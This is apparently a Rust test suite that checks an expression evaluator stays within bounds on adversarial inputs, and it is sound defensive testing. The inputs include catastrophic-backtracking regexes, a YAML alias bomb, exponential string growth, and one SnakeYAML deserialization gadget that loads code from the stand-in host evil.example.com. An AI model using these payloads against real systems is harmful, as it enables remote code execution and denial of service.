//! What is too long, too deep or too much: an error or a value of bounded size, and never a panic or an overflown stack.
//!
//! Nothing here looks at a clock. That an evaluation ends soon follows from its steps: a text takes as many as it is allowed
//! to, and whatever copies or looks through data takes steps in proportion.

use gennaker_core::expression::{
    ExpressionError, MAX_DEPTH, MAX_EXPRESSION, MAX_EXPRESSIONS, MAX_LENGTH, MAX_OUTPUT, MAX_PATTERN, Problem,
};
use serde_json::{Value, json};

use crate::fixture::World;

/// The longest message of an error in characters: what it shows of names, values and the expression is cut.
const MAX_MESSAGE: usize = 4_000;

/// How an evaluation ends.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum End {
    Value,
    TooLong,
    TooDeep,
    TooCostly,
    OtherError,
}

/// Evaluates, and checks what holds of every value and of every error.
fn end_of(world: &World, text: &str) -> End {
    let found = world.evaluate(text);
    assert_eq!(found, world.evaluate(text), "a second evaluation gives something else");
    match found {
        Ok(value) => {
            let size = value.as_str().map_or_else(|| value.to_string().len(), str::len);
            assert!(size <= MAX_OUTPUT, "a value of {size} bytes came out");
            End::Value
        }
        Err(error) => end_with(&error),
    }
}

fn end_with(error: &ExpressionError) -> End {
    let message = error.to_string();
    let length = message.chars().count();
    assert!(length <= MAX_MESSAGE, "a message of {length} characters: {message}");
    match &error.problem {
        Problem::TooLong { .. } => End::TooLong,
        Problem::TooDeep { .. } => End::TooDeep,
        Problem::TooCostly { .. } => End::TooCostly,
        _ => End::OtherError,
    }
}

/// An expression of a beginning, something again and again, and an end.
fn repeated(begin: &str, again: &str, count: usize, end: &str) -> String {
    format!("${{ {begin}{}{end} }}", again.repeat(count))
}

/// Checks that each text ends in one of these ways.
fn all_end<T: AsRef<str>>(world: &World, texts: impl IntoIterator<Item = T>, ends: &[End]) {
    for text in texts {
        let text = text.as_ref();
        let end = end_of(world, text);
        let (head, tail) = (text.chars().take(60), text.chars().rev().take(40));
        let shown: String = head.chain("…".chars()).chain(tail.collect::<Vec<_>>().into_iter().rev()).collect();
        assert!(ends.contains(&end), "{shown} ({} bytes) ended as {end:?}, not as {ends:?}", text.len());
    }
}

const BOUNDED: &[End] = &[End::TooLong, End::TooDeep, End::TooCostly];
const ANY: &[End] = &[End::Value, End::TooLong, End::TooDeep, End::TooCostly, End::OtherError];

/// Every way in which parts can lie within parts, closed and unclosed.
const NESTINGS: &[(&str, &str, &str)] = &[
    ("(", "1", ")"),
    ("{", "", "}"),
    ("{a: ", "1", "}"),
    ("{1, ", "1", "}"),
    ("!", "true", ""),
    ("not ", "true", ""),
    ("-", "1", ""),
    ("+", "1", ""),
    ("true ? 1 : ", "1", ""),
    ("true ? ", "1", " : 1"),
    ("null ?: ", "1", ""),
    ("#toJson(", "1", ")"),
    ("T(Math).abs(", "1", ")"),
    ("new Integer(", "1", ")"),
    ("'a'.concat(", "'a'", ")"),
    ("parameters[", "'x'", "]"),
    ("{1}[", "0", "]"),
    ("{1}.![", "1", "]"),
    ("{1}.?[", "true", "]"),
    ("{1}.^[", "true", "]"),
    ("{1}.![{1}.?[", "true", "]]"),
    ("1 + (", "1", ")"),
    ("2 ^ (", "1", ")"),
    ("true and (", "true", ")"),
    ("'a' matches (", "'a'", ")"),
    ("1 between {1, (", "1", ")}"),
];

#[test]
fn nesting_is_bounded() {
    let world = World::new();
    for (open, inner, close) in NESTINGS {
        let nested = |depth: usize| format!("${{ {}{inner}{} }}", open.repeat(depth), close.repeat(depth));
        all_end(&world, [nested(4)], &[End::Value, End::OtherError]);
        for depth in [MAX_DEPTH + 1, 1_000, (MAX_EXPRESSION - 100) / (open.len() + close.len())] {
            all_end(&world, [nested(depth)], &[End::TooDeep]);
        }
        let unclosed = MAX_EXPRESSION / open.len() - 10;
        all_end(&world, [repeated("", open, unclosed, "")], &[End::TooDeep, End::OtherError]);
    }
}

/// Long rows of operators and of steps, which are no nesting to the eye.
#[test]
fn chains_are_bounded() {
    let world = World::with([("deep", json!({"a": {"a": {"a": 1}}}))]);
    for (begin, again) in [
        ("1", "+1"),
        ("1", "-1"),
        ("1", "*1"),
        ("1", "/1"),
        ("1", "%1"),
        ("1", "^1"),
        ("'a'", "+'a'"),
        ("true", " and true"),
        ("true", "&&true"),
        ("false", " or false"),
        ("'a'", ".toString()"),
        ("'a'", ".concat('a')"),
        ("'a'", "?.toString()"),
        ("null", "?.a"),
        ("null", "?:null"),
        ("{1}", ".![#this]"),
        ("{1}", ".?[true]"),
        ("{1}", "[0]"),
        ("parameters.deep", ".a"),
        ("parameters.deep", "['a']"),
        ("T(java.time.LocalDate).now()", ".plusDays(1)"),
        ("1", "==1"),
        ("1", "<1"),
    ] {
        for count in [10, MAX_DEPTH + 1, 1_000, (MAX_EXPRESSION - 100) / again.len()] {
            all_end(&world, [repeated(begin, again, count, "")], ANY);
        }
    }
}

/// A value that is nested deeper and deeper, without any nesting in the expression: it must be possible to compare it, to
/// write it and to let go of it.
#[test]
fn values_do_not_grow_too_deep() {
    let world = World::new();
    let deep = |count: usize| format!("{{1}}{}", ".![{#this}]".repeat(count));
    for count in [10, 100, 1_000, 5_000] {
        let deep = deep(count);
        for text in [
            format!("${{ {deep} }}"),
            format!("${{ {deep}.size() }}"),
            format!("${{ {deep}.toString() }}"),
            format!("${{ {deep}.hashCode() }}"),
            format!("${{ #toJson({deep}) }}"),
            format!("${{ {deep} == {{1}} }}"),
            format!("a ${{ {deep} }}"),
            format!("${{ {deep}.nothing }}"),
        ] {
            all_end(&world, [text], ANY);
        }
    }
}

#[test]
fn lengths_are_bounded() {
    let world = World::new();
    assert_eq!(world.evaluate(&"x".repeat(MAX_LENGTH)), Ok(json!("x".repeat(MAX_LENGTH))));
    let long = |filler: &str, length: usize| filler.repeat(length.div_ceil(filler.len()));
    all_end(&world, [long("x", MAX_LENGTH + 1), long("é", MAX_LENGTH + 1)], &[End::TooLong]);
    all_end(&world, [long("$", MAX_LENGTH), long("{}", MAX_LENGTH), long("☕", MAX_LENGTH - 2)], &[End::Value]);
    all_end(&world, [long("$${", MAX_LENGTH - 2)], &[End::Value]);
    all_end(&world, [long("${", MAX_LENGTH), long("${'", MAX_LENGTH - 2), long("${(", MAX_LENGTH - 2)], ANY);
    all_end(&world, ["${1}".repeat(MAX_EXPRESSIONS)], &[End::Value]);
    all_end(&world, ["${1}".repeat(MAX_EXPRESSIONS + 1), long("${1}", MAX_LENGTH)], &[End::TooLong]);
    let padded = |length: usize| format!("${{{}1}}", " ".repeat(length));
    all_end(&world, [padded(MAX_EXPRESSION - 10)], &[End::Value]);
    all_end(&world, [padded(MAX_EXPRESSION + 1), format!("${{ '{}' }}", "x".repeat(MAX_EXPRESSION))], &[End::TooLong]);
    let digits = "9".repeat(MAX_EXPRESSION - 100);
    let numbers = [
        format!("${{ {digits} }}"),
        format!("${{ 0.{digits} }}"),
        format!("${{ 1e{digits} }}"),
        format!("${{ 0x{digits} }}"),
    ];
    all_end(&world, numbers, ANY);
    all_end(
        &world,
        [repeated("", "a", 60_000, ""), repeated("parameters", ".a-", 20_000, ""), repeated("#", "a", 60_000, "()")],
        ANY,
    );
    all_end(
        &world,
        [repeated("T(", "a.", 30_000, "a)"), repeated("new ", "a.", 30_000, "a()")],
        &[End::TooLong, End::TooDeep, End::OtherError],
    );
}

#[test]
fn what_comes_out_is_bounded() {
    let half = "x".repeat(MAX_OUTPUT / 2);
    let list: Vec<Value> = (0..1_000).map(|_| json!("y".repeat(1_000))).collect();
    let world = World::with([("half", json!(half)), ("list", json!(list)), ("long", json!("z".repeat(2_000)))]);
    all_end(&world, ["${ parameters.half }", "${ parameters.half }${ parameters.half }"], &[End::Value]);
    all_end(&world, ["${ parameters.half }${ parameters.half }!"], BOUNDED);
    all_end(&world, ["${ parameters.long }".repeat(MAX_EXPRESSIONS)], BOUNDED);
    let again = "${ parameters.list } ".repeat(10);
    all_end(&world, ["${ {parameters.list, parameters.list, parameters.list} }", &again], BOUNDED);
    all_end(&world, ["${ #toJson({parameters.half, parameters.half, parameters.half}) }"], BOUNDED);
    let pile = "{parameters.half, parameters.half, parameters.half}.toString()";
    all_end(&world, [format!("${{ {pile} }}"), format!("${{ {pile}.length() }}")], BOUNDED);
}

/// Texts that double, and doublings of what has doubled.
#[test]
fn texts_do_not_explode() {
    let world = World::with([("long", json!("x".repeat(100_000))), ("many", json!(",".repeat(100_000)))]);
    for expression in [
        "'x'.repeat(2147483647)",
        "'x'.repeat(1000).repeat(1000).repeat(1000)",
        "'x' * 2147483647",
        "'xy' * 1000 * 1000 * 1000",
        "parameters.long.repeat(1000)",
        "parameters.long.replaceAll('x', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx')",
        "parameters.long.replaceAll('', 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx')",
        "parameters.long.replace('x', parameters.long)",
        "parameters.long.replaceAll('x', '$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0$0')",
        "parameters.long.replaceAll('.*', parameters.long).replaceAll('.', parameters.long)",
        "T(String).join(parameters.long, parameters.many.split('', 0))",
        "T(String).join(parameters.long, {1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15}.![#this.toString()])",
        "T(String).format('%2147483647d', 1)",
        "T(String).format('%999999999s', 'x')",
        "T(String).format('%.2147483647f', 1.5)",
        "T(String).format('%1000000d%1000000d%1000000d%1000000d', 1, 2, 3, 4)",
        "#toBase64(#toBase64(#toBase64(#toBase64(#toBase64(#toBase64(#toBase64(#toBase64(parameters.long))))))))",
        "T(java.net.URLEncoder).encode(T(java.net.URLEncoder).encode(parameters.many, 'UTF-8'), 'UTF-8').repeat(100)",
        "{1, 2, 3, 4, 5, 6, 7, 8, 9}.![{1, 2, 3, 4, 5, 6, 7, 8, 9}.![{1, 2, 3, 4, 5, 6, 7, 8, 9}.![{1, 2, 3, 4, 5, 6, 7, 8, 9}.![parameters.long + 'x']]]]",
        "parameters.many.split(',', -1).![parameters.many.split(',', -1)]",
        "parameters.many.split('', -1).![#root.parameters.many.split('', -1)]",
        "parameters.long.split('').![#this + #root.parameters.long]",
    ] {
        all_end(&world, [format!("${{ {expression} }}")], &[End::TooLong, End::TooCostly, End::OtherError]);
    }
    let doubled = |count: usize| format!("${{ {{'x'}}{} }}", ".![#this + #this]".repeat(count));
    all_end(&world, [doubled(10)], &[End::Value]);
    all_end(&world, [doubled(40), doubled(1_000)], BOUNDED);
}

/// A list of the same list twice, again and again: small in memory, and enormous for whoever walks over it.
#[test]
fn shared_parts_are_paid_for_as_often_as_they_are_seen() {
    let world = World::new();
    let shared = |count: usize| format!("{{'x'}}{}", ".![{#this, #this}]".repeat(count));
    let mapped = |count: usize| format!("{{'x'}}{}", ".![{a: #this, b: #this}]".repeat(count));
    for list in [shared(50), mapped(50)] {
        for walk in [
            format!("${{ {list} }}"),
            format!("a ${{ {list} }}"),
            format!("${{ #toJson({list}) }}"),
            format!("${{ {list}.toString() }}"),
            format!("${{ {list} + '' }}"),
            format!("${{ '' + {list} }}"),
            format!("${{ T(String).valueOf({list}) }}"),
            format!("${{ T(String).format('%s', {list}) }}"),
            format!("${{ {list} == {list} }}"),
            format!("${{ {list} != {list} }}"),
            format!("${{ {list}.equals({list}) }}"),
            format!("${{ {{{list}}}.contains({list}) }}"),
            format!("${{ {{{list}}}.indexOf({list}) }}"),
            format!("${{ {{a: {list}}}.containsValue({list}) }}"),
            format!("${{ {list}.containsAll({list}) }}"),
        ] {
            all_end(&world, [walk], BOUNDED);
        }
        // An error that shows the value shows its beginning only, and a hash may be as costly as it likes.
        for text in [
            format!("${{ {list} + 1 }}"),
            format!("${{ {list} < {list} }}"),
            format!("${{ {list}.nothing }}"),
            format!("${{ #toInt({list}) }}"),
            format!("${{ {list}.hashCode() }}"),
            format!("${{ {list}.size() }}"),
            format!("${{ {list}.contains({list}) }}"),
        ] {
            all_end(&world, [text], ANY);
        }
    }
}

#[test]
fn loops_within_loops_are_bounded() {
    let numbers: Vec<u32> = (0..300).collect();
    let world = World::with([("numbers", json!(numbers))]);
    let list = "#root.parameters.numbers";
    all_end(&world, [format!("${{ {list}.?[#this % 2 == 0].![#this * 2].size() }}")], &[End::Value]);
    for text in [
        format!("${{ {list}.![{list}.![{list}.![#this]]] }}"),
        format!("${{ {list}.?[{list}.?[{list}.?[#this < 0].size() > 0].size() > 0] }}"),
        format!(
            "${{ {list}.![{list}.contains(-1)].![{list}.contains(-1)].![{list}.indexOf(-1)].![{list}.![{list}.contains(-1)]] }}"
        ),
        format!("${{ {list}.^[{list}.^[{list}.^[false] != null] != null] }}"),
    ] {
        all_end(&world, [text], &[End::TooCostly]);
    }
}

/// Patterns that make other engines go through all ways of a match.
#[test]
fn patterns_take_time_in_proportion_to_the_text() {
    let world = World::with([("a", json!("a".repeat(50_000))), ("long", json!("x".repeat(MAX_PATTERN + 1)))]);
    for pattern in [
        "(a+)+$",
        "(a|aa)+$",
        "(a|a?)+$",
        "([a-zA-Z]+)*$",
        "(.*a){20}$",
        "(.*)*$",
        "^(([a-z])+.)+[A-Z]([a-z])+$",
        "a*a*a*a*a*a*a*a*a*a*b",
        "(?:a?){50}a{50}b",
        "((a*)*)*b",
        "(a|b|ab)*c",
    ] {
        for expression in [
            format!("(parameters.a + '!') matches '{pattern}'"),
            format!("(parameters.a + '!').matches('{pattern}')"),
            format!("(parameters.a + '!').replaceAll('{pattern}', '').length()"),
            format!("(parameters.a + '!').replaceFirst('{pattern}', '').length()"),
            format!("(parameters.a + '!').split('{pattern}').length"),
        ] {
            all_end(&world, [format!("${{ {expression} }}")], ANY);
        }
    }
    let pattern = |pattern: &str| format!("${{ 'x' matches '{pattern}' }}");
    all_end(&world, ["${ 'x' matches parameters.long }"], &[End::TooLong, End::OtherError]);
    for bad in [
        r"(((((((((((((((((((((((((((((((((((((((((((((",
        "[[[[[[[[[[[[[[[[[[[[[[[[[[[[",
        "a{1000}{1000}{1000}",
        "(a{1000}){1000}",
        r"(\pL{1000}){1000}",
        "(?=a)",
        "(?<!a)b",
        r"(a)\1",
        r"\k<x>",
        "(?>a)",
        "a++",
        "a*+",
        "*",
        "+",
        "a{2,1}",
        "[z-a]",
        r"\",
        r"\Q",
        "(?x",
        "(?P<x>a)(?P<x>b)",
        "[a&&[^b]]{1000}{1000}",
        r"\G",
        r"\p{Nothing}",
        r"\x{110000}",
    ] {
        all_end(&world, [pattern(bad)], &[End::OtherError, End::TooLong, End::Value]);
    }
    all_end(&world, [pattern(&"(".repeat(500)), pattern(&format!("{}a{}", "(".repeat(400), ")".repeat(400)))], ANY);
    // As many as there can be: each is compiled, and compiling is paid for.
    let many = "${ 'x' matches '(\\pL{20}){20}' }".repeat(MAX_EXPRESSIONS);
    let numbers: Vec<u32> = (0..30_000).collect();
    let world = World::with([("numbers", json!(numbers))]);
    all_end(&world, [many, "${ parameters.numbers.![('(\\pL{9}){9}' + #this)].?[#this matches #this] }".into()], ANY);
}

/// The ends of the ranges of numbers, where Java wraps around and Rust would panic.
#[test]
fn numbers_have_ends() {
    let world = World::with([("huge", json!(u64::MAX)), ("tiny", json!(i64::MIN)), ("great", json!(1.7e308))]);
    let (int, long) = ("T(Integer).MIN_VALUE", "T(Long).MIN_VALUE");
    for extreme in [
        int,
        long,
        "parameters.tiny",
        "parameters.huge",
        "parameters.great",
        "T(Double).MAX_VALUE",
        "T(Double).MIN_VALUE",
    ] {
        for expression in [
            "-X",
            "+X",
            "X + X",
            "X - 1",
            "1 - X",
            "X * X",
            "X * -1",
            "X / -1",
            "X / 0.1",
            "X % -1",
            "X ^ X",
            "X ^ 2",
            "2 ^ X",
            "0 ^ X",
            "(-1) ^ X",
            "X == X",
            "X < X",
            "X between {X, X}",
            "T(Math).abs(X)",
            "T(Math).round(X)",
            "T(Math).floor(X)",
            "T(Math).floorDiv(X, -1)",
            "T(Math).floorMod(X, -1)",
            "T(Math).pow(X, X)",
            "T(Math).signum(X)",
            "T(Math).sqrt(X)",
            "T(Math).negateExact(X)",
            "T(Math).toIntExact(X)",
            "T(Math).max(X, X)",
            "T(Integer).toString(X)",
            "T(Integer).toString(X, X)",
            "T(Integer).toHexString(X)",
            "T(Integer).toBinaryString(X)",
            "T(Integer).reverse(X)",
            "T(Integer).sum(X, X)",
            "T(Integer).compare(X, X)",
            "T(Integer).parseInt('1', X)",
            "T(Long).toString(X)",
            "T(Long).sum(X, X)",
            "T(Double).toString(X)",
            "T(Long).compare(X, 0)",
            "(X).intValue()",
            "(X).longValue()",
            "(X).doubleValue()",
            "(X).floatValue()",
            "(X).byteValue()",
            "(X).hashCode()",
            "(X).toString()",
            "(X).compareTo(X)",
            "{1}[X]",
            "'abc'[X]",
            "'abc'.charAt(X)",
            "'abc'.substring(X)",
            "'abc'.substring(0, X)",
            "'abc'.substring(X, X)",
            "'abc'.indexOf('b', X)",
            "'abc'.lastIndexOf('b', X)",
            "'abc'.startsWith('a', X)",
            "'abc'.repeat(X)",
            "'abc' * X",
            "'abc'.split('b', X)",
            "{1}.get(X)",
            "{1}.subList(X, X)",
            "{1}.subList(0, X)",
            "new java.util.Random().nextInt(X)",
            "new java.util.Random().nextInt(X, X)",
            "new java.util.Random(X).nextInt(10)",
            "new java.util.Date(X)",
            "new java.util.Date(X).toString()",
            "new java.util.Date(X).getTime()",
            "new java.util.Date(X).toInstant()",
            "T(Instant).ofEpochMilli(X)",
            "T(Instant).ofEpochSecond(X)",
            "T(Instant).now().plusSeconds(X)",
            "T(Instant).now().minusSeconds(X)",
            "T(Instant).now().plusMillis(X)",
            "T(Instant).now().plusNanos(X)",
            "T(Instant).now().minusMillis(X)",
            "T(Instant).now().plus(X, T(ChronoUnit).DAYS)",
            "T(Instant).now().minus(X, T(ChronoUnit).NANOS)",
            "T(LocalDate).now().plusDays(X)",
            "T(LocalDate).now().minusDays(X)",
            "T(LocalDate).now().plusWeeks(X)",
            "T(LocalDate).now().minusWeeks(X)",
            "T(LocalDate).now().plusMonths(X)",
            "T(LocalDate).now().minusMonths(X)",
            "T(LocalDate).now().plusYears(X)",
            "T(LocalDate).now().minusYears(X)",
            "T(LocalDate).now().withDayOfMonth(X)",
            "T(LocalDate).now().withMonth(X)",
            "T(LocalDate).now().withYear(X)",
            "T(LocalDate).now().plus(X, T(ChronoUnit).YEARS)",
            "T(LocalDate).of(X, 1, 1)",
            "T(LocalDate).of(2026, X, X)",
            "T(LocalDate).ofEpochDay(X)",
            "T(LocalDate).ofYearDay(2026, X)",
            "T(LocalDateTime).now().plusHours(X)",
            "T(LocalDateTime).now().minusMinutes(X)",
            "T(LocalDateTime).now().plusSeconds(X)",
            "T(LocalDateTime).now().plusNanos(X)",
            "T(LocalDateTime).of(X, X, X, X, X)",
            "T(LocalDateTime).now().withHour(X)",
            "T(DayOfWeek).of(X)",
            "T(DayOfWeek).MONDAY.plus(X)",
            "T(DayOfWeek).MONDAY.minus(X)",
            "T(Duration).ofDays(X)",
            "T(Duration).ofSeconds(X).plusSeconds(X).toMillis()",
            "T(Duration).ofMillis(X).negated().toString()",
            "T(String).format('%d %x %o %f %e %g', X, X, X, X, X, X)",
            "T(String).format('%,d', X)",
            "#toInt(X)",
            "#toFloat(X)",
            "#toJson(X)",
            "#stageByRefId(X)",
        ] {
            let text = expression.replace('X', extreme);
            all_end(&world, [format!("${{ {text} }}"), format!("a ${{ {text} }}")], ANY);
        }
    }
}

#[test]
fn what_is_read_from_texts_is_bounded() {
    let brackets = "[".repeat(100_000);
    let objects = "{\"a\":".repeat(20_000);
    let aliases: String =
        (1..20).map(|level| format!("a{level}: &a{level} [*a{0}, *a{0}, *a{0}, *a{0}]\n", level - 1)).collect();
    let documents = "---\na: 1\n".repeat(20_000);
    let long = json!(vec![json!({"name": "x", "on": true, "list": [1, 2, 3]}); 10_000]).to_string();
    let world = World::with([
        ("brackets", json!(brackets)),
        ("objects", json!(objects)),
        ("aliases", json!(format!("a0: &a0 x\n{aliases}"))),
        ("documents", json!(documents)),
        ("long", json!(long)),
    ]);
    for expression in [
        "#readJson(parameters.brackets)",
        "#readJson(parameters.objects)",
        "#readYaml(parameters.brackets)",
        "#readYaml(parameters.objects)",
        "#readAllYaml(parameters.brackets)",
        "#readYaml(parameters.aliases)",
        "#readAllYaml(parameters.aliases)",
        "#readAllYaml(parameters.documents)",
        "#readYaml(parameters.documents)",
        "#readJson(parameters.long)",
        "#readYaml(parameters.long)",
        "#readJson(parameters.long).![#this.list].size()",
        "#fromBase64(parameters.brackets)",
        "#readYaml('!!binary x')",
        "#readYaml('!!java.util.Date {}')",
        "#readYaml('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [http://evil.example.com/]]]]')",
        "#readYaml('<<: *x')",
        "#readYaml('&a [*a]')",
        "#readYaml('? [a]\n: b')",
        "#readYaml('1: a')",
        "#readYaml('.nan')",
        "#readYaml('.inf')",
        "#readJson('1e999')",
        "#readJson('123456789012345678901234567890')",
        "#readJson('NaN')",
        "#readJson('\"\\ud800\"')",
    ] {
        all_end(&world, [format!("${{ {expression} }}")], ANY);
    }
}

/// Characters of several bytes and of two UTF-16 units: places count as Java counts them, and cutting one in two is an error
/// or gives a replacement.
#[test]
fn characters_are_not_cut_apart() {
    let world = World::with([("text", json!("a👩‍🚀é\u{301}\u{202e}\u{0}\u{feff}Ⅷ"))]);
    let methods = [
        "length()",
        "substring(I)",
        "substring(0, I)",
        "substring(I, 9)",
        "charAt(I)",
        "indexOf('é', I)",
        "indexOf('🚀')",
        "lastIndexOf('é', I)",
        "startsWith('👩', I)",
        "split('')",
        "replaceAll('.', '-')",
        "replace('👩', 'x')",
        "toUpperCase()",
        "toLowerCase()",
        "hashCode()",
        "trim()",
        "strip()",
        "repeat(I)",
        "compareTo('👩')",
        "matches('.*')",
        "codePointAt(I)",
        "concat('👩')",
    ];
    for place in 0..16 {
        for method in methods {
            let call = method.replace('I', &place.to_string());
            all_end(
                &world,
                [format!("${{ parameters.text.{call} }}"), format!("${{ parameters.text[{place}] }}")],
                ANY,
            );
        }
    }
    for text in [
        "${ '👩' }",
        "${ \u{a0}1\u{a0} }",
        "${\u{3000}1 }",
        "${ \u{feff}1 }",
        "${ 1 \u{0} }",
        "\u{feff}${ 1 }",
        "${ 'a\u{0}b' }",
        "é${ nowhere }",
        "👩${ nowhere }",
        "${ пример }",
        "${ parameters.пример }",
        "${ parameters['пример'] }",
        "${ é }",
        "${ 1 ＋ 1 }",
        "${ ‘a’ }",
        "${ 1\u{200b} }",
        "${ 𝟙 }",
        "${ ١ }",
        "${ '\u{202e}' }",
        "${ #ünicode() }",
        "${\r\n1\r\n}",
        "${\t1\u{b}}",
        "${ 'a\nb' }",
    ] {
        all_end(&world, [text], ANY);
    }
}

/// The place of a mistake is a character of the text, whatever stands before it.
#[test]
fn places_lie_within_the_text() {
    let world = World::new();
    for before in ["", "é", "👩‍🚀 ", "$${ a } ", "${ 1 } "] {
        for mistake in [
            "${",
            "${ }",
            "${ nowhere }",
            "${ 1 + }",
            "${ 'a }",
            "${ 1 / 0 }",
            "${ {1}.![nowhere] }",
            "${ T(x) }",
            "${ parameters.a-b-c }",
        ] {
            let text = format!("{before}{mistake}");
            let error = world.evaluate(&text).unwrap_err();
            let length = text.chars().count();
            assert!((1..=length + 1).contains(&error.position), "{text}: character {} of {length}", error.position);
            assert!(error.position > before.chars().count(), "{text}: character {}", error.position);
        }
    }
}

/// Many names, long names, and long values are shown in part.
#[test]
fn messages_are_short() {
    let names: serde_json::Map<String, Value> =
        (0..10_000).map(|n| (format!("name-{n}-{}", "x".repeat(200)), json!(1))).collect();
    let name = "n".repeat(100_000);
    let world = World::with([("names", json!(names)), ("long", json!("x".repeat(500_000))), ("name", json!(name))]);
    for expression in [
        "parameters.names.nothing",
        "parameters.names + 1",
        "parameters.long + {1} < 1",
        "parameters.long < 1",
        "#toInt(parameters.long)",
        "#stage(parameters.name)",
        "#stage(parameters.long)",
        "parameters.long.nothing",
        "parameters.long[0].nothing()",
        "parameters.names[1]",
        "{1}[parameters.long]",
        "#readJson(parameters.long)",
        "#readYaml('{' + parameters.long)",
        "#fromBase64(parameters.long)",
        "'x' matches ('(' + parameters.long)",
        "T(Integer).parseInt(parameters.long)",
        "T(Double).parseDouble(parameters.long)",
        "T(LocalDate).parse(parameters.long)",
        "T(Instant).parse(parameters.long)",
        "T(UUID).fromString(parameters.long)",
        "T(String).format('%' + parameters.long)",
        "new java.text.SimpleDateFormat(parameters.long).format(new Date())",
        "new java.text.SimpleDateFormat('yyyy').parse(parameters.long)",
        "#judgment(parameters.name)",
        "#stageByRefId(parameters.name)",
        "#manifestLabelValue(parameters.name, parameters.name, parameters.name)",
        "#triggerResolvedArtifact(parameters.name)",
        "#triggerResolvedArtifactByType(parameters.name)",
        "T(ChronoUnit).valueOf(parameters.name)",
    ] {
        let end = end_of(&world, &format!("${{ {expression} }}"));
        assert_ne!(end, End::Value, "{expression}");
    }
    for text in
        [repeated("", "n", 60_000, ""), repeated("#", "n", 60_000, "()"), repeated("parameters.", "n", 60_000, "")]
    {
        assert_ne!(end_of(&world, &text), End::Value);
    }
}
